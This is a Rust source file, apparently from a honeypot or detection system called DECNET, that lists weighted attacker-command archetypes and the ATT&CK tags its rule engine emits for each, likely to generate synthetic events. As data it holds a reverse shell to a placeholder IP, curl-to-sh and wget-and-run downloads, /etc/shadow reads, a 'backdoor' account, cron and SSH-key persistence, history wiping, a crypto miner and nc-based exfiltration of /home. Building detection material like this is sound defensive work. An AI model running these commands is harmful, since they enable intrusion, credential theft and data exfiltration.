//! A slice of DECNET's rule pack (SPEC §6): what a command looks like and which tags the
//! rule engine emits for it. Weights make the common reconnaissance commands common.

/// One emitted tag: rule, rule version, tactic, technique, sub-technique, confidence.
pub type Emit = (
    &'static str,
    i64,
    &'static str,
    &'static str,
    Option<&'static str>,
    f64,
);

/// A kind of attacker command and the tags it earns.
pub struct Archetype {
    pub weight: u32,
    /// `{ip}` and `{host}` are filled in per event.
    pub command: &'static str,
    pub emits: &'static [Emit],
}

pub const COMMANDS: &[Archetype] = &[
    Archetype {
        weight: 14,
        command: "cat /etc/passwd",
        emits: &[("R0013", 3, "TA0007", "T1083", None, 0.85)],
    },
    Archetype {
        weight: 12,
        command: "uname -a",
        emits: &[("R0018", 1, "TA0007", "T1082", None, 0.7)],
    },
    Archetype {
        weight: 10,
        command: "cat /etc/passwd; uname -a; id",
        emits: &[
            ("R0013", 3, "TA0007", "T1083", None, 0.85),
            ("R0018", 1, "TA0007", "T1082", None, 0.7),
            ("R0019", 1, "TA0007", "T1033", None, 0.6),
        ],
    },
    Archetype {
        weight: 9,
        command: "wget http://{host}/p.sh -O /tmp/p.sh && chmod +x /tmp/p.sh && /tmp/p.sh",
        emits: &[
            ("R0012", 2, "TA0011", "T1105", None, 0.85),
            ("R0030", 1, "TA0005", "T1222", Some("T1222.002"), 0.75),
            ("R0011", 1, "TA0002", "T1059", Some("T1059.004"), 0.8),
        ],
    },
    Archetype {
        weight: 8,
        command: "curl -s http://{host}/x.sh | sh",
        emits: &[
            ("R0012", 2, "TA0011", "T1105", None, 0.85),
            ("R0011", 1, "TA0002", "T1059", Some("T1059.004"), 0.85),
        ],
    },
    Archetype {
        weight: 7,
        command: "sudo cat /etc/shadow",
        emits: &[
            ("R0014", 2, "TA0006", "T1003", Some("T1003.008"), 0.95),
            ("R0031", 1, "TA0004", "T1548", Some("T1548.003"), 0.8),
        ],
    },
    Archetype {
        weight: 7,
        command: "find / -perm -u=s -type f 2>/dev/null",
        emits: &[
            ("R0015", 1, "TA0007", "T1083", None, 0.85),
            ("R0015", 1, "TA0004", "T1548", Some("T1548.001"), 0.95),
        ],
    },
    Archetype {
        weight: 6,
        command: "nmap -sS -p 1-65535 10.0.0.0/24",
        emits: &[
            ("R0017", 1, "TA0007", "T1046", None, 0.9),
            ("R0017", 1, "TA0043", "T1595", None, 0.9),
        ],
    },
    Archetype {
        weight: 6,
        command: "bash -i >& /dev/tcp/{ip}/4444 0>&1",
        emits: &[
            ("R0010", 2, "TA0002", "T1059", Some("T1059.004"), 0.9),
            ("R0032", 1, "TA0011", "T1095", None, 0.8),
        ],
    },
    Archetype {
        weight: 4,
        command: "useradd -m -s /bin/bash backdoor && echo 'backdoor:toor' | chpasswd",
        emits: &[
            ("R0024", 1, "TA0003", "T1136", Some("T1136.001"), 0.95),
            ("R0033", 1, "TA0003", "T1098", None, 0.7),
        ],
    },
    Archetype {
        weight: 4,
        command: "echo '* * * * * root /tmp/p.sh' >> /etc/cron.d/x",
        emits: &[("R0025", 1, "TA0003", "T1053", Some("T1053.003"), 0.9)],
    },
    Archetype {
        weight: 4,
        command: "history -c; rm -f ~/.bash_history; unset HISTFILE",
        emits: &[
            ("R0028", 1, "TA0005", "T1070", Some("T1070.003"), 0.9),
            ("R0029", 1, "TA0005", "T1562", Some("T1562.003"), 0.75),
        ],
    },
    Archetype {
        weight: 3,
        command: "echo 'ssh-rsa AAAAB3Nza... op@kali' >> ~/.ssh/authorized_keys",
        emits: &[("R0026", 1, "TA0003", "T1098", Some("T1098.004"), 0.95)],
    },
    Archetype {
        weight: 3,
        command: "cd /tmp; ./xmrig -o pool.{host}:3333 --donate-level 1",
        emits: &[
            ("R0040", 1, "TA0040", "T1496", Some("T1496.001"), 0.9),
            ("R0011", 1, "TA0002", "T1059", Some("T1059.004"), 0.6),
        ],
    },
    Archetype {
        weight: 2,
        command: "tar czf - /home | nc {ip} 9001",
        emits: &[
            ("R0041", 1, "TA0009", "T1560", Some("T1560.001"), 0.8),
            ("R0042", 1, "TA0010", "T1048", None, 0.75),
            ("R0032", 1, "TA0011", "T1095", None, 0.7),
        ],
    },
    Archetype {
        weight: 2,
        command: "ssh -o StrictHostKeyChecking=no root@10.0.0.{n}",
        emits: &[("R0043", 1, "TA0008", "T1021", Some("T1021.004"), 0.85)],
    },
];

/// Commands no rule matches (most of what attackers type).
pub const BENIGN: &[&str] = &[
    "ls -la", "cd /tmp", "pwd", "w", "whoami", "ps aux", "free -m", "df -h", "exit", "echo hi",
    "ls /root",
];

/// Sum of the archetypes' weights, for weighted picks.
pub const TOTAL_WEIGHT: u32 = {
    let mut sum = 0;
    let mut i = 0;
    while i < COMMANDS.len() {
        sum += COMMANDS[i].weight;
        i += 1;
    }
    sum
};
